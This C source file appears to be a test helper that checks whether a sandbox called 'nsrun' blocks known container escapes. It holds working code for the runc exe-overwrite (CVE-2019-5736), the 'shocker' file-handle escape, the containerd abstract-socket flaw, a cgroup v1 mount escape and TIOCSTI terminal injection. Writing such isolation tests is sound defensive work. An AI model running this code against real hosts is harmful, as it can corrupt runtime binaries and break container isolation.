/*
 * bugs WHAT ARG…: attacks that are more than one call, each in the form of the CVE that it is named after; a line each of what came
 * of it. Static; run inside as the command, and outside to prepare.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static const char *outcome(long result) { return result >= 0 ? "ok" : strerrorname_np(errno); }

/* exes: the file that every process we see runs from (CVE-2019-5736). */
static int exes(void) {
  DIR *proc = opendir("/proc");
  for (struct dirent *e; proc && (e = readdir(proc));) {
    char path[300], target[4096];
    if (atoi(e->d_name) < 1) continue;
    snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
    ssize_t n = readlink(path, target, sizeof target - 1);
    printf("%s %.*s\n", e->d_name, n < 0 ? 1 : (int)n, n < 0 ? "-" : target);
  }
  return 0;
}

/* overwrite DIR: until DIR/stop is there, keeps open what every process of nsrun's that joins runs from; then writes into it. */
static int overwrite(const char *dir) {
  static int held[1024];
  char path[4096], target[4096], stop[4096];
  int count = 0, written = 0;
  const char *refused = "-";
  snprintf(stop, sizeof stop, "%s/stop", dir);
  while (access(stop, F_OK) != 0) {
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc && (e = readdir(proc)) && count < 1024;) {
      int pid = atoi(e->d_name);
      if (pid < 2 || pid == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      ssize_t n = readlink(path, target, sizeof target - 1);
      target[n < 0 ? 0 : n] = 0;
      if (strstr(target, "nsrun")) held[count++] = fd;
      else close(fd);
    }
    if (proc) closedir(proc);
  }
  for (int i = 0; i < count; i++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, "pwned", 5) != 5) refused = strerrorname_np(errno);
    else written++;
    if (fd >= 0) close(fd);
  }
  printf("{\"held\":%d,\"written\":%d,\"refused\":\"%s\"}\n", count, written, refused);
  return 0;
}

/* handle FILE: its handle in hex (name_to_handle_at(2)). opened DIR HEX: what that file holds, found from any other
 * file of the same file system (shocker). */
static int handle(const char *file) {
  union { struct file_handle h; char room[sizeof(struct file_handle) + 128]; } u;
  int mount;
  u.h.handle_bytes = 128;
  if (name_to_handle_at(AT_FDCWD, file, &u.h, &mount, 0) < 0) return puts(strerrorname_np(errno)) < 0;
  printf("%x.", u.h.handle_type);
  for (unsigned i = 0; i < u.h.handle_bytes; i++) printf("%02x", u.h.f_handle[i]);
  puts("");
  return 0;
}
static int opened(const char *dir, const char *hex) {
  union { struct file_handle h; char room[sizeof(struct file_handle) + 128]; } u;
  char text[64] = "", *end;
  u.h.handle_type = strtol(hex, &end, 16);
  for (u.h.handle_bytes = 0, end++; end[0] && end[1]; end += 2) {
    unsigned byte;
    sscanf(end, "%2x", &byte);
    u.h.f_handle[u.h.handle_bytes++] = byte;
  }
  int at = open(dir, O_RDONLY | O_DIRECTORY);
  int fd = open_by_handle_at(at, &u.h, O_RDONLY);
  if (fd < 0) return puts(strerrorname_np(errno)) < 0;
  ssize_t n = read(fd, text, sizeof text - 1);
  printf("%.*s", n < 0 ? 0 : (int)n, text);
  return 0;
}

/* connect NAME: to an abstract socket (CVE-2020-15257). */
static int reach(const char *name) {
  struct sockaddr_un to = {.sun_family = AF_UNIX};
  memcpy(to.sun_path + 1, name, strlen(name));
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  long got = connect(fd, (struct sockaddr *)&to, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
  return puts(outcome(got)) < 0;
}

/* cgroup: a user and a cgroup namespace, in which a cgroup v1 hierarchy would be mounted writable (CVE-2022-0492). */
static int cgroup(void) {
  long got = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
  printf("unshare %s\n", outcome(got));
  if (got == 0) printf("mount %s\n", outcome(mount("cgroup", "/tmp", "cgroup", 0, "rdma")));
  return 0;
}

/* writable PATH…: which of them can be opened for writing; nothing is written. */
static int writable(int count, char **paths) {
  for (int i = 0; i < count; i++) {
    int fd = open(paths[i], O_WRONLY | O_CLOEXEC);
    printf("%s %s\n", paths[i], outcome(fd));
    if (fd >= 0) close(fd);
  }
  return 0;
}

/* readable PATH…: the same for reading; opened only, for /proc/kmsg would wait. */
static int readable(int count, char **paths) {
  for (int i = 0; i < count; i++) {
    int fd = open(paths[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    printf("%s %s\n", paths[i], outcome(fd));
    if (fd >= 0) close(fd);
  }
  return 0;
}

/* terminal: is the caller's terminal, which we have as stdin, ours to control (CVE-2017-5226)? tty(4), ioctl_tty(2). */
static int terminal(void) {
  printf("terminal %s\n", isatty(0) ? "ok" : "-");
  printf("controls %s\n", outcome(open("/dev/tty", O_RDWR | O_CLOEXEC)));
  printf("types %s\n", outcome(ioctl(0, TIOCSTI, "\n")));
  return 0;
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  setvbuf(stdout, 0, _IOLBF, 0);
  if (!strcmp(what, "exes")) return exes();
  if (!strcmp(what, "overwrite")) return overwrite(argv[2]);
  if (!strcmp(what, "handle")) return handle(argv[2]);
  if (!strcmp(what, "opened")) return opened(argv[2], argv[3]);
  if (!strcmp(what, "connect")) return reach(argv[2]);
  if (!strcmp(what, "cgroup")) return cgroup();
  if (!strcmp(what, "writable")) return writable(argc - 2, argv + 2);
  if (!strcmp(what, "readable")) return readable(argc - 2, argv + 2);
  if (!strcmp(what, "terminal")) return terminal();
  return 2;
}
